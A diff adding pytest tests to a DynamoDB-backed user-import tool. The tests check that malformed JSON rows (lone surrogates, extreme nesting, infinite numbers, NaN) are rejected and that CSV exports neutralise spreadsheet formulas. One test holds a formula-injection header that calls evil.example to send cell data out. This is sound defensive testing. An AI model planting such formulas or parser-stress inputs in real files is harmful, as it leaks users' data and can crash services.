@@ -3,6 +3,7 @@
 One engine is enough: what an import asks of DynamoDB is what single changes ask, which is tested on both.
 """
 
+import csv
 import io
 import json
 import os
@@ -390,6 +391,61 @@ def test_an_import_again_reads_receipts_and_is_refused_no_transaction(imports, r
     requests_sent.clear()
     assert numbers(imports.run(content)) == (120, 0, 0, 120, 0)
     assert Counter(requests_sent) == {"BatchGetItem": 2, "PutItem": 120}
+
+
+def nested(levels: int) -> str:
+    """Return a line whose tags nest so deep."""
+    return '{"user_id": "u-2", "attributes": {"tags": ' + '{"a":' * levels + "1" + "}" * (levels + 2)
+
+
+HOSTILE = [
+    '{"change_id": "\\udfff", "attributes": {}}',
+    '{"change_id": "\\ud800\\udbff", "user_id": null, "attributes": {}, "reason": "\\udfff"}',
+    '{"\\udfff": 1, "attributes": {"tags": {"\\udfff": "x"}}}',
+    *(nested(levels) for levels in (30, 31, 32, 900, 984, 986, 989, 1000, 10_000)),
+    '{"user_id": "u-3", "attributes": {}, "expected_version": 1e999}',
+    '{"user_id": "u-3", "attributes": {"tags": {"a": -1E400}}}',
+    '{"user_id": "u-3", "attributes": {}, "expected_version": ' + "9" * 5000 + "}",
+    '{"user_id": "u-3", "attributes": {}, "expected_version": ' + "9" * 4000 + "}",
+    '{"user_id": "u-3", "attributes": {}, "expected_version": NaN}',
+    '{"user_id": {"a": ["b"]}, "change_id": ["c"], "action": {}, "attributes": []}',
+]
+
+
+@pytest.mark.parametrize("dry_run", [True, False])
+def test_a_row_of_any_content_is_answered_by_itself_and_sent_back_as_json(imports, dry_run):
+    lines = [*HOSTILE, '{"user_id": "u-1", "attributes": {}}']
+    summary = imports.run("\n".join(lines), name="users.jsonl", dry_run=dry_run)
+    assert numbers(summary) == (len(lines), 1, len(lines) - 1, 0, 0)
+    report = imports.report(summary)
+    assert {line["outcome"] for line in report[:-1]} == {"REJECTED"}
+    assert {line["codes"] for line in report[3:12]} >= {"bad_format"}
+    assert "nests deeper than 32 levels" in report[9]["messages"]
+    assert "not finite" in report[12]["messages"]
+    back = imports.text(summary, "failed.jsonl").splitlines()
+    assert len(back) == len(HOSTILE)
+    for line in back:
+        assert "import_errors" in json.loads(line, parse_constant=pytest.fail, parse_float=pytest.fail)
+
+
+def test_the_header_that_is_sent_back_is_run_by_no_spreadsheet_and_read_as_it_was(imports):
+    evil = '=HYPERLINK("http://evil.example/?x="&A1)'
+    content = csv_of([{"Login": "u 1", evil: "x", "＠note": "\n=1+1"}])  # noqa: RUF001
+    columns = {"Login": "user_id", evil: None, "＠note": "display_name"}  # noqa: RUF001
+    summary = imports.run(content, columns=columns)
+    assert numbers(summary) == (1, 0, 1, 0, 0)
+    failed = imports.text(summary, "failed.csv")
+    header, row = csv.reader(io.StringIO(failed, newline=""))
+    assert header == ["Login", f"'{evil}", "'＠note", "import_errors"]  # noqa: RUF001
+    assert row[:3] == ["u 1", "x", "'\n=1+1"]
+    again = imports.run(failed, columns=columns)
+    assert imports.report(again)[0]["codes"] == imports.report(summary)[0]["codes"]
+
+
+def test_a_csv_without_user_ids_makes_users_and_rejects_what_is_no_create(imports):
+    summary = imports.run("action,username\n,ada\ncreate,bob\nupdate,eve\n")
+    assert numbers(summary) == (3, 2, 1, 0, 0)
+    assert [line["paths"] for line in imports.report(summary)] == ["", "", "/user_id"]
 
 
 @pytest.mark.parametrize("unusable", [5, None, "a b", {"x": []}])
